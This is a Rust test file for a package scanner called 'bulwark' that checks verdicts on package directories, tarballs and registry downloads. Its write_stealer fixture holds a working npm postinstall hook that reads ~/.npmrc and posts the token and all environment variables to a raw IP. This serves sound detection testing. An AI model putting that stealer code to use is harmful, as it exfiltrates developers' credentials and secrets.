//! End-to-end tests of `bulwark inspect` on package directories, tarballs and `name@version`
//! from a local fixture registry. The malicious-looking package is written by the test; it is
//! only ever read, never run.

mod common;

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::Path;

use common::{bulwark, json, pack, sri_sha512};

/// A package that steals the npm token at install time and posts it to a raw IP.
fn write_stealer(dir: &Path) {
    std::fs::write(
        dir.join("package.json"),
        r#"{"name":"colors-helper","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
    )
    .unwrap();
    std::fs::write(dir.join("index.js"), "module.exports = (s) => s;\n").unwrap();
    std::fs::write(
        dir.join("setup.js"),
        "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n\
         const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
         const req = https.request({ hostname: '45.61.12.9', path: '/c', method: 'POST' });\n\
         req.write(JSON.stringify({ token, env: process.env }));\nreq.end();\n",
    )
    .unwrap();
}

fn write_benign(dir: &Path) {
    std::fs::write(
        dir.join("package.json"),
        r#"{"name":"left-trim","version":"2.0.0","main":"index.js"}"#,
    )
    .unwrap();
    std::fs::write(
        dir.join("index.js"),
        "module.exports = function trim(s) { return s.replace(/^\\s+/, ''); };\n",
    )
    .unwrap();
}

#[test]
fn stealer_directory_is_malicious_with_evidence() {
    let dir = tempfile::tempdir().unwrap();
    write_stealer(dir.path());
    let output = bulwark(&[
        "inspect",
        &dir.path().display().to_string(),
        "--format",
        "json",
    ]);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let report = json(&output);
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    assert_eq!(report["package"]["name"], "colors-helper");
    let findings = report["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .any(|f| f["file"] == "setup.js" && f["line"].as_u64() > Some(0)),
        "{findings:#?}"
    );
    for finding in findings {
        for field in [
            "rule_id",
            "severity",
            "confidence",
            "message",
            "file",
            "line",
            "column",
            "evidence",
        ] {
            assert!(!finding[field].is_null(), "{field} missing in {finding:#}");
        }
    }

    let human = bulwark(&["inspect", &dir.path().display().to_string()]);
    let text = String::from_utf8(human.stdout).unwrap();
    assert!(
        text.contains("MALICIOUS") && text.contains("--> setup.js:"),
        "{text}"
    );
}

#[test]
fn benign_directory_is_clean() {
    let dir = tempfile::tempdir().unwrap();
    write_benign(dir.path());
    let output = bulwark(&[
        "inspect",
        &dir.path().display().to_string(),
        "-f",
        "json",
        "--fail-on",
        "suspicious",
    ]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
    assert_eq!(json(&output)["verdict"], "clean");
}

#[test]
fn tarball_is_read_in_memory() {
    let dir = tempfile::tempdir().unwrap();
    let package = dir.path().join("src");
    std::fs::create_dir(&package).unwrap();
    write_stealer(&package);
    let tarball = dir.path().join("colors-helper-1.0.1.tgz");
    pack(&package, &tarball);
    let output = bulwark(&["inspect", &tarball.display().to_string(), "-f", "json"]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(json(&output)["verdict"], "malicious");
}

#[test]
fn garbage_tarball_is_an_error_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let tarball = dir.path().join("broken.tgz");
    std::fs::write(&tarball, b"\x1f\x8b\x08\x00garbage").unwrap();
    let output = bulwark(&["inspect", &tarball.display().to_string()]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("broken.tgz"));
}

fn packument(registry: &str, integrity: &str) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "name": "colors-helper",
        "dist-tags": { "latest": "1.0.1" },
        "versions": { "1.0.1": { "name": "colors-helper", "version": "1.0.1", "dist": {
            "tarball": format!("{registry}/colors-helper/-/colors-helper-1.0.1.tgz"),
            "integrity": integrity
        }}}
    }))
    .unwrap()
}

#[test]
fn name_at_version_is_downloaded_and_verified() {
    let dir = tempfile::tempdir().unwrap();
    let package = dir.path().join("src");
    std::fs::create_dir(&package).unwrap();
    write_stealer(&package);
    let tarball_path = dir.path().join("t.tgz");
    pack(&package, &tarball_path);
    let tarball = std::fs::read(&tarball_path).unwrap();
    let integrity = sri_sha512(&tarball);

    let url = registry_with(|base| packument(base, &integrity), tarball.clone());
    let output = bulwark(&[
        "inspect",
        "colors-helper@1.0.1",
        "--registry",
        &url,
        "-f",
        "json",
    ]);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(json(&output)["verdict"], "malicious");

    // Bytes that do not match the packument's integrity are never analysed.
    let mut tampered = tarball;
    let last = tampered.len() - 1;
    tampered[last] ^= 0xff;
    let url = registry_with(|base| packument(base, &integrity), tampered);
    let output = bulwark(&[
        "inspect",
        "colors-helper@1.0.1",
        "--registry",
        &url,
        "-f",
        "json",
    ]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("integrity mismatch"), "{stderr}");

    let output = bulwark(&["inspect", "colors-helper@9.9.9", "--registry", &url]);
    assert_eq!(output.status.code(), Some(2));
}

/// Starts a registry whose packument is built from its own base URL.
fn registry_with(make_packument: impl Fn(&str) -> Vec<u8>, tarball: Vec<u8>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let packument = make_packument(&base);
    std::thread::spawn(move || {
        for stream in listener.incoming().take(4) {
            let Ok(mut stream) = stream else { continue };
            let mut buffer = [0_u8; 4096];
            let read = stream.read(&mut buffer).unwrap_or(0);
            let request = String::from_utf8_lossy(&buffer[..read]);
            let body = if request.starts_with("GET /colors-helper/-/") {
                &tarball
            } else {
                &packument
            };
            let header = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(header.as_bytes());
            let _ = stream.write_all(body);
        }
    });
    base
}
